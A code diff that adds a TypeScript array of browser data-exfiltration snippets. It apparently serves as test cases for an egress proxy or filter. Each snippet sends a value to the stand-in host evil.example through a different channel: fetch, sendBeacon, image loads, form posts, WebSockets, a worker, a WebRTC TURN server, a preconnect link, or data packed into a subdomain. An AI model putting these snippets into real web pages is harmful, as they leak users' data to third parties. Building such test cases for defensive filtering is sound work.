@@ -120,3 +120,28 @@ export const EGRESS_TRICKS: readonly Trick[] = [
   ),
   js('a portal of names', `for(let i=0;i<3;i++)new Image().src='http://'+V+i+'.evil.example/x'`),
 ]
+
+const S = 'https://evil.example'
+
+/** The same from a page over TLS, where the proxy sees hosts alone. */
+export const SECURE_TRICKS: readonly Trick[] = [
+  js('fetch', `fetch('${S}/?'+V,{mode:'no-cors'})`),
+  js('POST', `fetch('${S}/',{method:'POST',mode:'no-cors',body:V})`),
+  js('POST to its own host', `fetch('/own',{method:'POST',body:V})`),
+  js('beacon', `navigator.sendBeacon('${S}/',V)`),
+  js('image', `new Image().src='${S}/i?'+V`),
+  js('location', `location.href='${S}/l?'+V`),
+  js(
+    'form by POST',
+    add(`'<form id=f method=post action="${S}/p"><input name=v value="'+V+'"></form>'`) + `;f.submit()`,
+  ),
+  js('WebSocket', `new WebSocket('wss://evil.example/?'+V)`),
+  js('WebSocket to a name that tells', `new WebSocket('wss://'+V+'.evil.example/')`),
+  js('WebSocket to its own host', `const w=new WebSocket('wss://shop.example/ws');w.onopen=()=>w.send(V)`),
+  js('worker', `new Worker(URL.createObjectURL(new Blob(["fetch('${S}/wk?"+V+"',{mode:'no-cors'})"])))`),
+  js(
+    'WebRTC by TLS',
+    `const p=new RTCPeerConnection({iceServers:[{urls:'turns:evil.example:443?transport=tcp',username:V,credential:V}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
+  ),
+  js('preconnect', add(`'<link rel=preconnect href="https://'+V+'.evil.example">'`)),
+]
